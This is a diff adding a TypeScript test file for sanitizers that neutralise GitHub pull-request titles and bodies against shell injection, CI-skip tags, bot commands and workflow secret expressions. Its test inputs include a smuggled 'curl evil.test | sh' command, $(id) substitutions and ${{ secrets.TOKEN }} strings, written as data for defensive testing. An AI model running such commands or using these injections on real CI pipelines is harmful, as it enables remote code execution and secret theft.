@@ -1,0 +1,114 @@
+import assert from "node:assert/strict";
+import { spawnSync } from "node:child_process";
+import { test } from "node:test";
+import fc from "fast-check";
+import { safeBody, safeTitle } from "../../src/github/outgoing.ts";
+
+const TITLES: readonly (readonly [given: string, sent: string])[] = [
+  ["Add a dark mode", "Add a dark mode"],
+  ["Support `foo()` in the parser", "Support ’foo()’ in the parser"],
+  ['Don\'t crash on "x"', "Don’t crash on ”x”"],
+  ['a"; curl evil.test | sh; echo "', "a”, curl evil.test / sh, echo ”"],
+  ["\u0024{{ secrets.TOKEN }} $(id) `id` $HOME", "$ { { secrets.TOKEN }} (id) ’id’ HOME"],
+  ["It costs $ 5", "It costs $ 5"],
+  ["Fix typo [skip ci]", "Fix typo (skip ci)"],
+  ["Update [CI Skip] and [no ci]", "Update (CI Skip) and (no ci)"],
+  ["/merge", "merge"],
+  ["!deploy now", "deploy now"],
+  ["@dependabot merge this, mail@example.test", "dependabot merge this, mail@example.test"],
+  ["Fixes #12", "Fixes issue 12"],
+  ["two\nlines\u0000", "two lines"],
+  ["日本語のタイトル 🎉", "日本語のタイトル 🎉"],
+  ["x".repeat(300), `${"x".repeat(199)}…`],
+];
+
+for (const [given, sent] of TITLES) {
+  test(`the title ${JSON.stringify(given.slice(0, 50))}`, () => assert.equal(safeTitle(given), sent));
+}
+
+const BODIES: readonly (readonly [given: string, sent: string])[] = [
+  ["Nothing special: a/b, 5 & 6.", "Nothing special: a/b, 5 & 6."],
+  ["closes #1, Fixed: #2 and resolves GH-3", "closes issue 1, Fixed: issue 2 and resolves issue 3"],
+  ["Fixes acme/app#4", "Fixes acme/app issue 4"],
+  ["resolves https://github.com/acme/app/issues/5", "resolves acme/app issue 5"],
+  ["see #6", "see #6"],
+  ["ask @ada and @acme/core, not a@b.test", "ask `@ada` and `@acme/core`, not a@b.test"],
+  ["`@ada` stays", "`@ada` stays"],
+  ["/approve\r\n  /hold", " /approve\n  /hold"],
+  ["```\n/lgtm\n```", "```\n /lgtm\n```"],
+  ["!deploy", " !deploy"],
+  ["[skip ci]\n\nskip-checks: true", "(skip ci)\n\nskip-checks - true"],
+  ["run \u0024{{ github.token }}", "run $ {{ github.token }}"],
+];
+
+for (const [given, sent] of BODIES) {
+  test(`the body ${JSON.stringify(given.slice(0, 50))}`, () => assert.equal(safeBody(given), sent));
+}
+
+test("no title runs anything in a shell line, quoted or not", () => {
+  const part = fc.constantFrom(
+    "$",
+    "(",
+    ")",
+    "{",
+    "}",
+    "`",
+    '"',
+    "'",
+    ";",
+    "|",
+    "&",
+    "<",
+    ">",
+    "\\",
+    "\n",
+    " ",
+    "touch",
+    "ran",
+    "x",
+    "#",
+    "*",
+    "!",
+  );
+  fc.assert(
+    fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
+      const title = safeTitle(parts.join(""));
+      assert.doesNotMatch(title, /[`"'\\;|&<>\n]|\$[({\w]/);
+    }),
+  );
+  for (const line of ["echo TITLE", 'echo "TITLE"', "echo 'TITLE'"]) {
+    const title = safeTitle("\"; echo ran; $(echo ran) `echo ran` '; echo ran | cat & echo ran > x");
+    const { stdout } = spawnSync("sh", ["-c", line.replace("TITLE", () => title)], { encoding: "utf8" });
+    assert.doesNotMatch(stdout, /^ran/m);
+  }
+});
+
+test("what was made safe stays as it is", () => {
+  const words = [
+    "$",
+    "(",
+    "{",
+    "`",
+    '"',
+    ";",
+    "|",
+    "&",
+    "\\",
+    "\n",
+    " ",
+    "x",
+    "#1",
+    "@",
+    "/",
+    "!",
+    "[skip ci]",
+    "fixes ",
+    "[",
+    "]",
+    "***NO_CI***",
+  ];
+  const text = fc.array(fc.constantFrom(...words), { maxLength: 14 }).map((parts) => parts.join(""));
+  for (const safe of [safeTitle, safeBody]) {
+    fc.assert(fc.property(fc.oneof(text, fc.string()), (given) => assert.equal(safe(safe(given)), safe(given))));
+  }
+});
